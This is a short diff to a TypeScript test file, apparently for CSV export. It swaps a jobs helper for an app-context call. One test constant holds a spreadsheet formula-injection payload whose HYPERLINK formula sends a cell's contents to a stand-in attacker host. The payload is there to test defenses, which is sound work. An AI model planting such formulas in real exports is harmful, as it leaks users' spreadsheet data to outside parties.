@@ -5,7 +5,6 @@ import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import { createApp } from '../../server/app';
 import { events, unitStats, users } from '../../server/db/schema';
-import { waitForJobs } from '../../server/features/jobs/jobs.service';
 import { openTestDb, resetDb } from '../support/db';
 import { createTestUnit, signInAs } from '../support/factories';
 import { createTestSite, halyardNumber } from '../support/units';
@@ -13,7 +12,7 @@ import { recordVisits } from '../support/visits';
 
 const { db, pool } = openTestDb();
 const now = new Date('2026-06-01T12:00:00Z');
-const { app } = createApp({ db, clock: { now: () => now }, rateLimits: { signInPerIp: 1000 } });
+const { app, ctx } = createApp({ db, clock: { now: () => now }, rateLimits: { signInPerIp: 1000 } });
 
 // One of each character OWASP lists, as a person (or an attacker) could type them.
 const SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -53,7 +52,7 @@ beforeAll(async () => {
   await db.update(unitStats).set({ rollingLeakRatePct: -25 }).where(eq(unitStats.unitId, evilUnit));
 });
 afterAll(async () => {
-  await waitForJobs();
+  await ctx.jobs.waitForAll();
   await pool.end();
 });
 
